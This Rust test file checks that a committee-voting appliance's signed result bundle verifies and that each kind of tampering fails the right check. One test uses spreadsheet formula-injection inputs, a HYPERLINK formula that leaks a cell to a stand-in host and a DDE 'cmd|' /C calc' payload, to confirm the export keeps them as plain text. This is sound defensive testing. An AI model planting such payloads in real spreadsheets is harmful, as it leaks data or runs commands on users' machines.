//! The signed result bundle: written at the report, verified offline by `pingshen verify` and by
//! the standard tools, and every kind of tampering caught by the right check.

use crate::common::*;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

pub(crate) fn verify(bundle: &Path, pubkey: Option<&Path>) -> (i32, String) {
    let mut args = vec!["verify".to_string(), bundle.display().to_string()];
    if let Some(k) = pubkey {
        args.push("--pubkey".into());
        args.push(k.display().to_string());
    }
    let (code, out, err) = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    (code, format!("{out}{err}"))
}

/// The check that failed, from verify's output.
pub(crate) fn failed_check(out: &str) -> Option<String> {
    out.lines().find_map(|l| l.strip_prefix("[FAIL] ")).map(|l| l.split(':').next().unwrap().to_string())
}

pub(crate) fn unzip(path: &Path) -> BTreeMap<String, Vec<u8>> {
    pingshen::bundle::verify::read_bundle(path).unwrap()
}

pub(crate) fn write_dir(dir: &Path, files: &BTreeMap<String, Vec<u8>>) {
    let _ = std::fs::remove_dir_all(dir);
    std::fs::create_dir_all(dir).unwrap();
    for (n, b) in files {
        std::fs::write(dir.join(n), b).unwrap();
    }
}

/// Recomputes SHA256SUMS and the manifest after an edit; re-signs only if asked (with the
/// appliance's own key, to reach the checks behind the signature).
pub(crate) fn reseal(files: &mut BTreeMap<String, Vec<u8>>, sign_with: Option<&Path>) {
    let sha = |b: &[u8]| pingshen::package::sha256_hex(b);
    let mut m: serde_json::Value = serde_json::from_slice(&files["manifest.json"]).unwrap();
    for f in m["files"].as_array_mut().unwrap() {
        let b = &files[f["path"].as_str().unwrap()];
        f["size"] = serde_json::json!(b.len());
        f["sha256"] = serde_json::json!(sha(b));
    }
    let audit = String::from_utf8(files["audit.jsonl"].clone()).unwrap();
    let head = sha(audit.lines().last().unwrap().as_bytes());
    m["audit_head"] = serde_json::json!(head);
    files.insert("manifest.json".into(), serde_json::to_vec_pretty(&m).unwrap());
    let mut sums = String::new();
    for (n, b) in files.iter().filter(|(n, _)| !n.starts_with("SHA256SUMS")) {
        sums.push_str(&format!("{}  {n}\n", sha(b)));
    }
    files.insert("SHA256SUMS".into(), sums.clone().into_bytes());
    if let Some(data) = sign_with {
        let key = pingshen::bundle::key::load(data).unwrap().unwrap();
        // The trusted comment names the bundle's own format (a /1 bundle says /1).
        let trusted = pingshen::bundle::trusted_comment(m["session_id"].as_str().unwrap(), &head).replacen(
            pingshen::bundle::FORMAT,
            m["format"].as_str().unwrap(),
            1,
        );
        let sig = minisign::sign(Some(&key.pk), &key.sk, std::io::Cursor::new(sums), Some(&trusted), None).unwrap();
        files.insert("SHA256SUMS.minisig".into(), sig.into_string().into_bytes());
    }
}

fn flip(b: &mut [u8], at: usize) {
    b[at] ^= 0x01;
}

#[test]
fn the_report_writes_a_bundle_that_verifies_and_tampering_is_caught() {
    let v = Venue::new(&example_json());
    play_example_to_report(&v);
    let data = v.s.data.clone();
    let zip = data.join("2026-HN-ZXXJS-01-result.zip");
    assert!(zip.exists(), "the report wrote the bundle");
    let pubfile = data.join("appliance.pub");
    let page = v.login("E102").get("/committee/report").text();
    assert!(page.contains("2026-HN-ZXXJS-01-result.zip"), "the report page tells where the bundle is");
    // The admin downloads the same file.
    let dl = v.admin.get("/admin/bundle");
    assert_eq!(dl.status, 200);
    assert_eq!(dl.bytes, std::fs::read(&zip).unwrap());

    let (code, out) = verify(&zip, Some(&pubfile));
    assert_eq!(code, 0, "{out}");
    for name in ["signature", "files", "hashes", "audit chain", "recount", "key", "result"] {
        assert!(out.contains(&format!("[OK  ] {name}:")), "{name} not reported OK:\n{out}");
    }
    let (code, out) = verify(&zip, None);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("[WARN] key:") && out.contains("NOT PINNED"), "{out}");

    // The results are what was played: A0002 failed its group, the rest passed the committee.
    let files = unzip(&zip);
    let results: serde_json::Value = serde_json::from_slice(&files["results.json"]).unwrap();
    let outcome = |code: &str| {
        results["applicants"].as_array().unwrap().iter().find(|a| a["code"] == code).unwrap()["outcome"].clone()
    };
    assert_eq!(outcome("A0001"), "passed");
    assert_eq!(outcome("A0002"), "failed_group");
    assert_eq!(outcome("A0004"), "failed_committee");
    // ballots.json cannot be joined to voters: no voter field and no time.
    let ballots = String::from_utf8(files["ballots.json"].clone()).unwrap();
    for forbidden in ["voter", "E00", "E10", "_at", "time", "20"] {
        assert!(!ballots.contains(forbidden), "ballots.json contains {forbidden:?}");
    }
    let report = String::from_utf8(files["report.html"].clone()).unwrap();
    assert!(report.contains("会议记录") && !report.contains("href=\"/static"), "self-contained report");

    // Debian's tools agree: minisign -Vm SHA256SUMS -P KEY && sha256sum -c SHA256SUMS.
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain");
    write_dir(&plain, &files);
    let key_b64 = pingshen::bundle::key::load(&data).unwrap().unwrap().public_base64();
    match std::process::Command::new("minisign")
        .current_dir(&plain)
        .args(["-Vm", "SHA256SUMS", "-P", &key_b64])
        .output()
    {
        Ok(o) => assert!(o.status.success(), "minisign: {}", String::from_utf8_lossy(&o.stderr)),
        Err(_) if std::env::var("CI").is_ok_and(|v| v == "true") => panic!("minisign missing under CI"),
        Err(_) => eprintln!("SKIP minisign check: apt-get install minisign"),
    }
    let o = std::process::Command::new("sha256sum").current_dir(&plain).args(["-c", "SHA256SUMS"]).output().unwrap();
    assert!(o.status.success(), "sha256sum -c: {}", String::from_utf8_lossy(&o.stdout));

    let check = |files: &BTreeMap<String, Vec<u8>>, pubkey: Option<&Path>| -> Option<String> {
        let d = dir.path().join("t");
        write_dir(&d, files);
        let (code, out) = verify(&d, pubkey);
        assert_ne!(code, 0, "tampering passed:\n{out}");
        failed_check(&out)
    };
    // One byte flipped in each file: the right check fails.
    for (name, expected) in [
        ("SHA256SUMS", "signature"),
        ("SHA256SUMS.minisig", "signature"),
        ("manifest.json", "hashes"),
        ("attendance.json", "hashes"),
        ("audit.jsonl", "hashes"),
        ("ballots.json", "hashes"),
        ("report.html", "hashes"),
        ("results.json", "hashes"),
        ("results.xlsx", "hashes"),
    ] {
        let mut t = files.clone();
        let b = t.get_mut(name).unwrap();
        let at = match name {
            // A byte inside the signature itself (line 2 of the minisig file).
            "SHA256SUMS.minisig" => b.iter().position(|c| *c == b'\n').unwrap() + 10,
            // A byte of the creation time, not of the key the signature check reads.
            "manifest.json" => String::from_utf8_lossy(b).find("\"created_at\"").unwrap() + 20,
            _ => b.len() / 2,
        };
        flip(b, at);
        assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some(expected), "flipping a byte of {name}");
    }
    // A file removed, a file added.
    let mut t = files.clone();
    t.remove("ballots.json");
    assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some("files"));
    let mut t = files.clone();
    t.insert("extra.txt".into(), b"hello".to_vec());
    assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some("files"));
    // A tally edited, SHA256SUMS and the manifest recomputed, not re-signed.
    let mut t = files.clone();
    let edited = String::from_utf8(t["results.json"].clone()).unwrap().replacen("\"agree\": 5", "\"agree\": 4", 1);
    assert_ne!(edited.as_bytes(), &t["results.json"][..]);
    t.insert("results.json".into(), edited.into_bytes());
    reseal(&mut t, None);
    assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some("signature"));
    // Even re-signed with the real key (an insider), the recount and the chain catch edits.
    let mut t = files.clone();
    let mut b: serde_json::Value = serde_json::from_slice(&t["ballots.json"]).unwrap();
    b["ballots"].as_array_mut().unwrap().remove(0);
    t.insert("ballots.json".into(), serde_json::to_vec_pretty(&b).unwrap());
    reseal(&mut t, Some(&data));
    assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some("recount"), "a ballot removed");
    let mut t = files.clone();
    let audit = String::from_utf8(t["audit.jsonl"].clone()).unwrap().replacen("\"login\"", "\"logon\"", 1);
    t.insert("audit.jsonl".into(), audit.into_bytes());
    reseal(&mut t, Some(&data));
    assert_eq!(check(&t, Some(&pubfile)).as_deref(), Some("audit chain"), "an audit line edited");
    // The right bundle with a different pinned key.
    let other = dir.path().join("other");
    std::fs::create_dir_all(&other).unwrap();
    pingshen::bundle::key::load_or_create(&other).unwrap();
    assert_eq!(check(&files, Some(&other.join("appliance.pub"))).as_deref(), Some("key"));
}

/// Bundles written before format 2 (no `eligible`/`decision`, no per-round attendance, no
/// `rehearsal`) still verify: the same session rewritten as /1 and signed with the same key.
#[test]
fn a_format_1_bundle_still_verifies() {
    let v = Venue::new(&example_json());
    play_example_to_report(&v);
    let data = v.s.data.clone();
    let mut files = unzip(&data.join("2026-HN-ZXXJS-01-result.zip"));
    let edit = |files: &mut BTreeMap<String, Vec<u8>>, name: &str, f: &dyn Fn(&mut serde_json::Value)| {
        let mut j: serde_json::Value = serde_json::from_slice(&files[name]).unwrap();
        f(&mut j);
        files.insert(name.into(), serde_json::to_vec_pretty(&j).unwrap());
    };
    edit(&mut files, "results.json", &|r| {
        r["format"] = "pingshen-results/1".into();
        for a in r["applicants"].as_array_mut().unwrap() {
            for k in ["group_result", "committee_result"] {
                if let Some(o) = a[k].as_object_mut() {
                    o.remove("eligible");
                    o.remove("decision");
                }
            }
        }
        for round in r["rounds"].as_array_mut().unwrap() {
            for t in round["tallies"].as_array_mut().unwrap() {
                t.as_object_mut().unwrap().remove("eligible");
            }
        }
    });
    edit(&mut files, "attendance.json", &|a| {
        a["format"] = "pingshen-attendance/1".into();
        for k in ["staff_check_ins", "left"] {
            a.as_object_mut().unwrap().remove(k);
        }
        for round in a["rounds"].as_array_mut().unwrap() {
            round.as_object_mut().unwrap().remove("late");
        }
    });
    edit(&mut files, "manifest.json", &|m| {
        m["format"] = "pingshen-bundle/1".into();
        m.as_object_mut().unwrap().remove("rehearsal");
    });
    reseal(&mut files, Some(&data));
    let dir = tempfile::tempdir().unwrap();
    write_dir(dir.path(), &files);
    let (code, out) = verify(dir.path(), Some(&data.join("appliance.pub")));
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("[OK  ] recount:"), "{out}");
}

/// The writer and `verify` share one typed model (issue 27): a key removed from a real bundle's
/// file, the bundle re-signed with the appliance's own key, fails verification naming the key —
/// it never reads as empty or zero.
#[test]
fn a_missing_key_fails_verification_by_its_name() {
    let v = Venue::new(&example_json());
    play_example_to_report(&v);
    let data = v.s.data.clone();
    let original = unzip(&data.join("2026-HN-ZXXJS-01-result.zip"));
    type Edit = fn(&mut serde_json::Value);
    let cases: [(&str, &str, Edit); 6] = [
        ("results.json", "present", |r| {
            r["applicants"][0]["committee_result"].as_object_mut().unwrap().remove("present");
        }),
        ("results.json", "needed", |r| {
            r["applicants"][0]["committee_result"].as_object_mut().unwrap().remove("needed");
        }),
        ("results.json", "outcome", |r| {
            r["applicants"][1].as_object_mut().unwrap().remove("outcome");
        }),
        ("results.json", "eligible", |r| {
            r["rounds"][0]["tallies"][0].as_object_mut().unwrap().remove("eligible");
        }),
        ("attendance.json", "recusals", |a| {
            a.as_object_mut().unwrap().remove("recusals");
        }),
        ("manifest.json", "rehearsal", |m| {
            m.as_object_mut().unwrap().remove("rehearsal");
        }),
    ];
    for (file, key, edit) in cases {
        let mut files = original.clone();
        let mut j: serde_json::Value = serde_json::from_slice(&files[file]).unwrap();
        edit(&mut j);
        files.insert(file.into(), serde_json::to_vec_pretty(&j).unwrap());
        reseal(&mut files, Some(&data));
        let dir = tempfile::tempdir().unwrap();
        write_dir(dir.path(), &files);
        let (code, out) = verify(dir.path(), Some(&data.join("appliance.pub")));
        assert_ne!(code, 0, "{file} without `{key}` verified:\n{out}");
        let fail = out.lines().find(|l| l.starts_with("[FAIL]")).unwrap_or_default();
        assert!(fail.contains(&format!("`{key}`")) && fail.contains(file), "{file} without `{key}`: {fail}");
    }
}

#[test]
fn rebuilding_gives_identical_content_and_ballot_order_is_not_submission_order() {
    let v = Venue::new(&example_json());
    play_example_to_report(&v);
    let out = |name: &str| -> PathBuf {
        let p = v.s.data.join(name);
        let (code, stdout, err) = run(&[
            "bundle",
            "--data",
            v.s.data.to_str().unwrap(),
            "--config",
            v.s.config.to_str().unwrap(),
            "--out",
            p.to_str().unwrap(),
        ]);
        assert_eq!(code, 0, "{stdout}{err}");
        p
    };
    let a = unzip(&out("a.zip"));
    let b = unzip(&out("b.zip"));
    let first = unzip(&v.s.data.join("2026-HN-ZXXJS-01-result.zip"));
    for (n, bytes) in &a {
        if n != "SHA256SUMS.minisig" {
            assert_eq!(bytes, &b[n], "{n} differs between two runs");
            assert_eq!(bytes, &first[n], "{n} differs from the bundle written at the report");
        }
    }
    let (code, out_text) = verify(&v.s.data.join("a.zip"), Some(&v.s.data.join("appliance.pub")));
    assert_eq!(code, 0, "{out_text}");
    // Built in memory and written at once, the bundle is the one streamed file by file.
    let db = pingshen::store::Db::open(&v.s.data, 8).unwrap();
    let (key, _) = pingshen::bundle::key::load_or_create(&v.s.data).unwrap();
    let built = pingshen::bundle::build(&db, &pingshen::render::Templates::load(), &key).unwrap();
    let mut names: Vec<&str> = built.files.iter().map(|(n, _)| n.as_str()).collect();
    names.sort();
    assert_eq!(names, a.keys().map(String::as_str).collect::<Vec<_>>(), "the same files");
    for (n, bytes) in &built.files {
        if n != "SHA256SUMS.minisig" {
            assert_eq!(bytes, &a[n], "{n}: built in memory differs from streamed");
        }
    }
    // The order is a function of a seed drawn at the report: other seeds give other orders,
    // and none follows the ballots' storage (random id) order or the submission order.
    let conn = v.s.db();
    let order = |seed: &str| -> Vec<serde_json::Value> {
        let bytes = pingshen::bundle::ballots_bytes(&conn, seed).unwrap();
        serde_json::from_slice::<serde_json::Value>(&bytes).unwrap()["ballots"].as_array().unwrap().clone()
    };
    let (x, y) = (order("seed-one"), order("seed-two"));
    assert_eq!(x.len(), y.len());
    assert!(x.len() >= 15, "{} ballots", x.len());
    assert_ne!(x, y, "different seeds, different orders");
    let mut sx: Vec<String> = x.iter().map(|v| v.to_string()).collect();
    let mut sy: Vec<String> = y.iter().map(|v| v.to_string()).collect();
    sx.sort();
    sy.sort();
    assert_eq!(sx, sy, "the same ballots");
    // Submission order: group G01's ballots were cast before G02's and the committee's.
    let stored: serde_json::Value = serde_json::from_slice(&a["ballots.json"]).unwrap();
    let stages: Vec<String> =
        stored["ballots"].as_array().unwrap().iter().map(|b| format!("{}{}", b["stage"], b["scope"])).collect();
    let mut grouped = stages.clone();
    grouped.sort_by_key(|s| (s.contains("committee"), s.contains("G02")));
    assert_ne!(stages, grouped, "the bundle's order must not follow the order of submission");
}

/// The built-in demo played to the report over HTTP (3 groups, 20 applicants, committee of 9);
/// its bundle verifies against the pinned key.
#[test]
fn the_demo_played_to_the_report_verifies() {
    let s = Server::demo("lecture_defense");
    let db = s.db();
    let q = |sql: &str| -> Vec<(String, String)> {
        let mut st = db.prepare(sql).unwrap();
        st.query_map([], |r| Ok((r.get(0)?, r.get(1)?))).unwrap().map(Result::unwrap).collect()
    };
    let users: std::collections::HashMap<String, String> =
        q("SELECT person_code, username FROM accounts WHERE person_code IS NOT NULL").into_iter().collect();
    let recused: std::collections::HashSet<(String, String)> =
        q("SELECT expert_code, applicant_code FROM recusals").into_iter().collect();
    let login = |code: &str| s.login(&users[code], "pingshen");
    let groups = q("SELECT code, leader FROM groups ORDER BY ord");
    let mut clients = std::collections::HashMap::new();
    for (code, _) in q("SELECT code, name FROM experts") {
        clients.insert(code.clone(), login(&code));
    }
    for (g, leader) in &groups {
        let experts: Vec<String> = q(&format!("SELECT code, name FROM experts WHERE group_code = '{g}'"))
            .into_iter()
            .map(|(c, _)| c)
            .collect();
        let apps: Vec<String> = q(&format!("SELECT code, name FROM applicants WHERE group_code = '{g}'"))
            .into_iter()
            .map(|(c, _)| c)
            .collect();
        for e in &experts {
            let mine: Vec<(&str, &str)> = apps
                .iter()
                .filter(|a| !recused.contains(&(e.clone(), (*a).clone())))
                .map(|a| (a.as_str(), "85"))
                .collect();
            let fields: Vec<(String, String)> =
                mine.iter().map(|(a, v)| (format!("score_{a}"), v.to_string())).collect();
            let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            assert_eq!(clients[e].post_form("/lecture", &refs).status, 303);
            let votes: Vec<(&str, &str)> = mine.iter().map(|(a, _)| (*a, "agree")).collect();
            assert_eq!(draft(&clients[e], &votes).status, 303);
        }
        assert_eq!(clients[leader].post_form("/review/ops/open", &[]).status, 303);
        for e in &experts {
            assert_eq!(submit(&clients[e]).status, 303);
        }
        let mut fields: Vec<(String, String)> =
            apps.iter().map(|a| (format!("passed_{a}"), "yes".to_string())).collect();
        fields.push(("action".into(), "submit".into()));
        let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let r = clients[leader].post_form("/review/deliberate", &refs);
        assert_eq!(r.status, 303, "{}", r.text());
    }
    let members: Vec<String> =
        q("SELECT expert_code, expert_code FROM committee").into_iter().map(|(c, _)| c).collect();
    let in_committee: Vec<String> = q("SELECT code, name FROM applicants").into_iter().map(|(c, _)| c).collect();
    for m in &members {
        let votes: Vec<(String, String)> = in_committee
            .iter()
            .filter(|a| !recused.contains(&(m.clone(), (*a).clone())))
            .map(|a| (format!("choice_{a}"), "agree".to_string()))
            .collect();
        let refs: Vec<(&str, &str)> = votes.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        assert_eq!(clients[m].post_form("/committee/draft", &refs).status, 303);
    }
    assert_eq!(clients["E101"].post_form("/committee/ops/open", &[]).status, 303);
    for m in &members {
        let page = clients[m].get("/committee/submit");
        let vote = page.body.split("name=\"vote\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
        assert_eq!(clients[m].post_form("/committee/submit", &[("vote", &vote)]).status, 303);
    }
    assert_eq!(clients["E102"].post_form("/committee/report", &[("action", "submit")]).status, 303);
    let zip = s.data.join("DEMO-2026-HN-ZXXJS-result.zip");
    let (code, out) = verify(&zip, Some(&s.data.join("appliance.pub")));
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("20 applicants' tallies and outcomes agree"), "{out}");
}

/// results.xlsx with formula-like user text: every text cell is text with a quote prefix (an
/// edit in Excel/WPS keeps it text), the value itself unchanged; counts are numbers; the sheet
/// opens readable (frozen bold header, fitted columns) and prints A4 landscape, fit to width.
#[test]
fn results_xlsx_keeps_formula_like_text_as_text_and_prints_readably() {
    let name = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"点我\")";
    let opinion = "+1+cmd|' /C calc'!A0";
    let mut p = committee_package(3, &[("A1", "某小学")], false);
    p["applicants"][0]["name"] = serde_json::json!(name);
    let v = Venue::new(&p);
    let members = committee_round(&v, 3, &[("A1", "agree")]);
    let r = members[1].post_form("/committee/report", &[("opinion_A1", opinion), ("action", "submit")]);
    assert_eq!(r.status, 303, "{}", r.text());
    let files = unzip(&v.s.data.join(format!("{}-result.zip", p["session"]["id"].as_str().unwrap())));
    let xlsx = files["results.xlsx"].clone();
    // The values read back unchanged, as text; the counts as numbers.
    use calamine::{Data, Reader};
    let mut wb = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    let sheet = wb.worksheet_range("评委会评议").unwrap();
    assert_eq!(sheet.get_value((1, 1)), Some(&Data::String(name.to_string())));
    assert_eq!(sheet.get_value((1, 10)), Some(&Data::String(opinion.to_string())));
    assert_eq!(sheet.get_value((1, 5)), Some(&Data::Float(3.0)), "同意票数 is a number");
    // The format: quote prefix on text cells, frozen header, landscape, fit to one page wide.
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut read = |n: &str| {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut z.by_name(n).unwrap(), &mut s).unwrap();
        s
    };
    let styles = read("xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let ws = read("xl/worksheets/sheet2.xml");
    assert!(ws.contains("state=\"frozen\""), "frozen header");
    // Fit to one page wide (fitToWidth defaults to 1), as many pages tall as it takes.
    assert!(
        ws.contains("orientation=\"landscape\"") && ws.contains("fitToPage=\"1\"") && ws.contains("fitToHeight=\"0\""),
        "{ws}"
    );
    // 同意票数 (four CJK characters) is wider than the writer's autofit made it (5.6).
    let width_of = |col: u32| -> f64 {
        let attr = |tag: &str, name: &str| -> f64 {
            tag.split(&format!("{name}=\"")).nth(1).unwrap().split('"').next().unwrap().parse().unwrap()
        };
        let tag =
            ws.split("<col ").skip(1).find(|t| attr(t, "min") <= col as f64 && col as f64 <= attr(t, " max")).unwrap();
        attr(tag, "width")
    };
    assert!(width_of(6) >= 9.0, "{ws}");
    assert!(!ws.contains("<f>"), "no formula anywhere");
}

/// A bundle marked as written in a rehearsal (彩排) fails `verify`, however well it is signed.
#[test]
fn a_rehearsal_bundle_is_never_taken_for_a_result() {
    let v = Venue::new(&example_json());
    play_example_to_report(&v);
    let data = v.s.data.clone();
    let mut files = unzip(&data.join("2026-HN-ZXXJS-01-result.zip"));
    let mut m: serde_json::Value = serde_json::from_slice(&files["manifest.json"]).unwrap();
    m["rehearsal"] = serde_json::json!(true);
    files.insert("manifest.json".into(), serde_json::to_vec_pretty(&m).unwrap());
    reseal(&mut files, Some(&data));
    let dir = tempfile::tempdir().unwrap();
    write_dir(dir.path(), &files);
    let (code, out) = verify(dir.path(), Some(&data.join("appliance.pub")));
    assert_ne!(code, 0, "{out}");
    assert_eq!(failed_check(&out).as_deref(), Some("result"), "{out}");
    assert!(out.contains("彩排"), "{out}");
}
